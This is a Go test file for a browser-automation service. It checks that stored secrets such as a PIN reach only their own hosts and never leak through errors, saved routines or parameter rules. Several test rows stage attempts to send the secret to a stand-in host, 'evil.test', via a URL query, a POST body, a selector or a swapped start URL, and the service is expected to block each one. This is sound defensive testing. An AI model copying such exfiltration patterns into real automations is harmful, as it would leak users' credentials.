package lesson

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"rote/routine"
	"rote/routine/routinetest"
)

// recorder is a page whose fields are in a frame of its URL. It records what it is asked to do.
func recorder(did *[]string) routinetest.Page {
	at := ""
	return routinetest.Page{Actions: did,
		Navigate: func(_ context.Context, url string) (routine.Navigation, error) {
			at = url
			return routine.Navigation{URL: url, Status: 200}, nil
		},
		Describe: func(_ context.Context, selector string, _ routine.ElementUse) (routine.ElementDescription, error) {
			return routine.ElementDescription{Matches: 1, Selector: selector, FrameURL: at, Field: &routine.Field{Type: "text"}}, nil
		},
		Nearest: func(_ context.Context, i routine.Inspection) ([]routine.Element, error) {
			return []routine.Element{{Selector: i.Selector, Role: "button", Matched: true}}, nil
		}}
}

func valuesOf(t *testing.T, text string) map[string]json.RawMessage {
	t.Helper()
	var values map[string]json.RawMessage
	if err := json.Unmarshal([]byte(text), &values); err != nil && text != "" {
		t.Fatal(err)
	}
	return values
}

// shownTo returns all that a caller can read of the routines and the executions.
func (c *classroom) shownTo(t *testing.T) string {
	t.Helper()
	text := ""
	for _, r := range c.stored(t) {
		text += routine.JSONText(r)
	}
	for _, e := range c.executions(t) {
		full, err := c.service.Execution(t.Context(), author, e.ID)
		if err != nil {
			t.Fatal(err)
		}
		text += routine.JSONText(full)
	}
	return text
}

// errorText is all that an error shows.
func errorText(err error) string {
	if err == nil {
		return ""
	}
	return err.Error() + routine.JSONText(routine.AsError(err).Problems)
}

// The run of a proof uses a secret for its hosts only, whatever the lesson did
// before the secret became a value.
func TestProofKeepsSecretsToTheirHosts(t *testing.T) {
	const evil, bank = "https://evil.test/", "https://corner.bank/"
	typed := func(name string) string { return `{"type":"input_text","selector":"#q","text":"{{` + name + `}}"}` }
	for _, row := range []struct {
		name, start, operation string
		values, later          string // those of the operation, and of a later one that is not kept
		q                      SaveRequest
		says                   string
		code                   routine.Code
		sent                   bool // the secret is sent to its host
	}{
		{name: "the secret comes after its operation", start: evil, operation: typed("q"), values: `{"q":"x"}`, later: `{"q":{"secret":"PIN"}}`,
			says: `secret PIN is not for evil.test`, code: routine.CodeNotProved},
		{name: "before an operation that acts", start: evil, operation: typed("q"), values: `{"q":"x"}`, later: `{"q":{"secret":"PIN"}}`,
			q: SaveRequest{Prove: ProveCheckLast}, says: `secret PIN is not for evil.test`, code: routine.CodeNotProved},
		{name: "in a URL", start: bank, operation: `{"type":"navigate","url":"https://evil.test/?q={{q}}"}`, values: `{"q":"x"}`, later: `{"q":{"secret":"PIN"}}`,
			says: "/operations/2/url: {{q}} is not allowed here", code: routine.CodeInvalid},
		{name: "in a request", start: bank, operation: `{"type":"fetch","endpoint":{"url":"https://evil.test/","method":"POST","body":{"q":"{{q}}"}}}`,
			values: `{"q":"x"}`, later: `{"q":{"secret":"PIN"}}`, says: "secret PIN is not for evil.test", code: routine.CodeNotProved},
		{name: "in a selector", start: bank, operation: `{"type":"click","selector":"#{{q}}"}`, values: `{"q":"x"}`, later: `{"q":{"secret":"PIN"}}`,
			says: "/operations/2/selector: {{q}} is not allowed here", code: routine.CodeInvalid},
		{name: "as another value", start: evil, operation: typed("q"), values: `{"q":"x"}`, q: SaveRequest{OtherValues: valuesOf(t, `{"q":{"secret":"PIN"}}`)},
			says: `other_values cannot have a stored secret: leave out "q"`, code: routine.CodeInvalid},
		{name: "with another URL", start: "{{u}}", operation: typed("pin"), values: `{"pin":{"secret":"PIN"},"u":"https://corner.bank/"}`,
			q:    SaveRequest{OtherValues: valuesOf(t, `{"u":"https://evil.test/"}`)},
			says: `secret PIN is not for evil.test`, code: routine.CodeNotProved, sent: true},
		{name: "with another URL of its hosts", start: "{{u}}", operation: typed("pin"), values: `{"pin":{"secret":"PIN"},"u":"https://corner.bank/"}`,
			q: SaveRequest{OtherValues: valuesOf(t, `{"u":"https://a.pay.test/"}`)}, sent: true},
		{name: "as it was", start: bank, operation: typed("pin"), values: `{"pin":{"secret":"PIN"}}`, sent: true},
	} {
		t.Run(row.name, func(t *testing.T) {
			t.Parallel()
			var did []string
			c := newClassroom(t, recorder(&did), withSecrets)
			started, err := c.Start(t.Context(), author, StartRequest{URL: bank})
			if err != nil {
				t.Fatal(err)
			}
			id, shown := started.ID, started.Text()
			tried := c.tried(t, id, TryRequest{Operations: raw(`{"type":"navigate","url":"`+row.start+`"}`, row.operation), Values: valuesOf(t, row.values)})
			if shown += tried.Text() + routine.JSONText(tried); !tried.OK {
				t.Fatalf("%+v", tried.Steps)
			}
			if row.later != "" {
				later := c.tried(t, id, TryRequest{Operations: raw(`{"type":"sleep","timeout_seconds":0}`), Keep: new(false), Values: valuesOf(t, row.later)})
				shown += later.Text() + routine.JSONText(later)
			}
			if row.q.Prove == ProveCheckLast {
				c.tried(t, id, TryRequest{Operations: raw(order)})
				c.acts(t, id, 4, "POST /orders")
			}
			row.q.Name, row.q.Description = "send", "Sends."
			did = nil
			saved, err := c.Save(t.Context(), author, id, row.q)
			if row.code == "" && err != nil {
				t.Fatal(err, saved.Text())
			}
			if row.code != "" {
				wantError(t, err, row.code, row.says)
			}
			if saved != nil {
				shown += saved.Text() + routine.JSONText(saved)
			}
			if shown += errorText(err) + c.shownTo(t); strings.Contains(shown, "tr0ub4dor") {
				t.Errorf("the secret is in %s", shown)
			}
			at, sent := "", false
			for _, action := range did {
				if url, ok := strings.CutPrefix(action, "navigate "); ok {
					at = url
				}
				if strings.Contains(action, theSecret) {
					if sent = true; strings.Contains(action, "evil") || strings.HasPrefix(at, evil) {
						t.Errorf("did %q on %s", action, at)
					}
				}
			}
			if sent != row.sent {
				t.Errorf("did %q", did)
			}
		})
	}
}

// Nothing that the author declares for a name whose value is a stored secret shows
// the value or tells what it is.
func TestNoRulesForStoredSecrets(t *testing.T) {
	t.Parallel()
	var did []string
	c := newClassroom(t, recorder(&did), withSecrets)
	started, err := c.Start(t.Context(), author, StartRequest{URL: "https://corner.bank/"})
	if err != nil {
		t.Fatal(err)
	}
	c.tried(t, started.ID, TryRequest{Operations: raw(`{"type":"input_text","selector":"#pin","text":"{{pin}}"}`,
		`{"type":"input_text","selector":"#q","text":"lamp"}`),
		Values: valuesOf(t, `{"pin":{"secret":"PIN"}, "unused":{"secret":"PIN"}}`)})
	for _, row := range []struct{ declaration, pointer string }{
		{`{"name":"pin","x-secret":false}`, "/parameters/0/x-secret"},
		{`{"name":"pin","validation":{"pattern":"^a"}}`, "/parameters/0/validation"},
		{`{"name":"pin","pattern":"^t"}`, "/parameters/0/pattern"},
		{`{"name":"pin","type":"enum","enum_values":["a"]}`, "/parameters/0/enum_values"},
		{`{"name":"pin","type":"integer"}`, "/parameters/0/type"},
		{`{"name":"pin","default":"a"}`, "/parameters/0/default"},
		{`{"name":"pin","from":"lamp"}`, "/parameters/0/from"},
		{`{"name":"unused","min_length":3}`, "/parameters/0/min_length"},
		{`{"name":"unused","from":"lamp"}`, "/parameters/0/from"},
		{`{"name":"pin","PATTERN":"^a"}`, "/parameters/0/PATTERN"},
		{`{"name":"pin","NAME":"x","pattern":"^a"}`, ""},
		{`{"NAME":"unused","name":"x","pattern":"^a"}`, ""},
	} {
		for _, dry := range []bool{true, false} {
			saved, err := c.Save(t.Context(), author, started.ID, SaveRequest{Name: "enter", Description: "Enters.", DryRun: dry,
				Parameters: raw(row.declaration)})
			text := errorText(err) + c.shownTo(t)
			if saved != nil {
				text += saved.Text() + routine.JSONText(saved)
			}
			if strings.Contains(text, "tr0ub4dor") || row.pointer != "" && (routine.CodeOf(err) != routine.CodeInvalid || !strings.Contains(text, row.pointer)) {
				t.Errorf("%s: %s", row.declaration, text)
			}
			if strings.Contains(text, "does not match") || strings.Contains(text, "pattern_mismatch") {
				t.Errorf("%s tells about the value: %s", row.declaration, text)
			}
		}
	}
	saved, err := c.Save(t.Context(), author, started.ID, SaveRequest{Name: "enter", Description: "Enters.",
		Parameters: raw(`{"name":"pin","description":"The PIN.","x-secret":true}`)})
	if err != nil || saved.Saved != true || !strings.Contains(c.shownTo(t), "The PIN.") {
		t.Errorf("%+v, %v", saved, err)
	}
}

// A parameter of a mended routine becomes a secret with the secret as its value, and its rules
// are not asked about that.
func TestMendingWithAStoredSecret(t *testing.T) {
	const text = `{"name":"enter","description":"Enters.","parameters":[
		{"name":"customer","type":"%s","description":"The number.",%s}],"operations":[
		{"type":"navigate","url":"https://corner.bank/"},{"type":"input_text","selector":"#customer","text":"{{customer}}"},
		{"type":"click","selector":"#gone","timeout_ms":50}]}`
	for _, row := range []struct{ name, typ, rules string }{
		{"plain", "string", `"required":true`},
		{"a pattern that does not match", "string", `"validation":{"pattern":"^[0-9]{3}$"}`},
		{"an enumeration", "enum", `"validation":{"enum_values":["123","124"]}`},
		{"a secret with a pattern", "string", `"x-secret":true,"validation":{"pattern":"^1"}`},
	} {
		t.Run(row.name, func(t *testing.T) {
			t.Parallel()
			var did []string
			page := recorder(&did)
			page.Click = func(_ context.Context, k routine.Click) (routine.Match, error) {
				if k.Selector == "#gone" {
					return routine.Match{}, routine.Errorf(routine.CodeElementNotFound, `no element matches "#gone"`)
				}
				return routine.Match{Matches: 1}, nil
			}
			c := newClassroom(t, page, withSecrets)
			r, e := c.failedRun(t, fmt.Sprintf(text, row.typ, row.rules), `{"customer":"123"}`)
			started, err := c.Start(t.Context(), author, StartRequest{Routine: r.ID, Execution: e.ID, Values: valuesOf(t, `{"customer":{"secret":"PIN"}}`)})
			if err != nil {
				t.Fatal(err, errorText(err))
			}
			tried := c.tried(t, started.ID, TryRequest{At: 3, Operations: raw(`{"type":"click","selector":"#open"}`)})
			saved, err := c.Save(t.Context(), author, started.ID, SaveRequest{ExpectedVersion: &r.Version, Prove: ProveAll})
			if err != nil || saved.Saved != true {
				t.Fatalf("%+v, %v", saved, errorText(err))
			}
			all := started.Text() + routine.JSONText(started) + tried.Text() + routine.JSONText(tried) + saved.Text() + routine.JSONText(saved) + c.shownTo(t)
			if strings.Contains(all, "tr0ub4dor") || !strings.Contains(strings.Join(did, " "), theSecret) {
				t.Errorf("the secret is in %s, did %q", all, did)
			}
			stored, err := c.service.Routine(t.Context(), author, r.ID)
			if err != nil || !stored.Parameters[0].Secret || stored.Parameters[0].Validation != nil || stored.Parameters[0].Type != routine.TypeString {
				t.Errorf("%s, %v", routine.JSONText(stored), err)
			}
			if !strings.Contains(saved.Text(), "a secret text without rules") {
				t.Errorf("no warning in %s", saved.Text())
			}
		})
	}
}
